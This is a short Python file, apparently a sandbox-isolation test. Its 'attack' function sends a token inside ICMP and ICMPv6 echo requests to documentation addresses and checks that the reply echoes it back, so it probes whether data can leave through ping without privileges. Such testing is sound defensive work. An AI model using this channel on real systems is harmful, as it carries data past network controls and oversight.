"""Content in echo requests, for which an ordinary user needs no right; the answer brings content back."""

import socket
import struct

from kernel import every
from network import token


def echo(family, address):
    data = token()
    protocol, kind = (socket.IPPROTO_ICMP, 8) if family == socket.AF_INET else (socket.IPPROTO_ICMPV6, 128)
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as ping:
        ping.settimeout(10)
        ping.sendto(struct.pack("!BBHHH", kind, 0, 0, 0, 1) + data, (address, 0))
        answer = ping.recv(100)
    if answer[8:] != data:
        raise RuntimeError(f"the answer is {answer}")


def attack(_folder):
    every(
        lambda: echo(socket.AF_INET, "198.51.100.1"),
        lambda: echo(socket.AF_INET6, "2001:db8::2"),
    )


def twin(_folder):
    echo(socket.AF_INET, "192.0.2.1")
    echo(socket.AF_INET6, "2001:db8::1")
